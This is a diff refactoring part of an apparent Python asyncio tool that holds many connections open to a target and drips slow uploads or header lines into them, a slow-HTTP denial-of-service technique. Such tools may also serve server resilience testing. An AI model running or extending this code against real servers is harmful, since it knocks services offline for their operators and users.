@@ -195,6 +195,13 @@ async def send_crowds(target: Target) -> None:
     )
 
 
+def drip(writers: list[asyncio.StreamWriter], data: bytes) -> None:
+    """Send a little more to each connection that is still there."""
+    for writer in writers:
+        if not writer.transport.is_closing():
+            writer.write(data)
+
+
 async def drip_uploads(target: Target) -> None:
     """Slow uploads of pictures and clips, as many as are taken."""
     head = "".join(f"{name}: {value}\r\n" for name, value in target.attacker.items())
@@ -207,9 +214,7 @@ async def drip_uploads(target: Target) -> None:
             writer.write(f"{start}\r\n".encode())
             writers.append(writer)
     for _ in range(1000):
-        for writer in writers:
-            with suppress(OSError):
-                writer.write(b"a" * 4096)
+        drip(writers, b"a" * 4096)
         await asyncio.sleep(0.5)
 
 
@@ -236,9 +241,7 @@ async def hold_connections(target: Target) -> None:
             writer.write(starts[number % len(starts)].encode())
             writers.append(writer)
     for _ in range(1000):
-        for writer in writers[2::4]:
-            with suppress(OSError):
-                writer.write(b"X: a\r\n")
+        drip(writers[2::4], b"X: a\r\n")
         await asyncio.sleep(0.5)
 
 
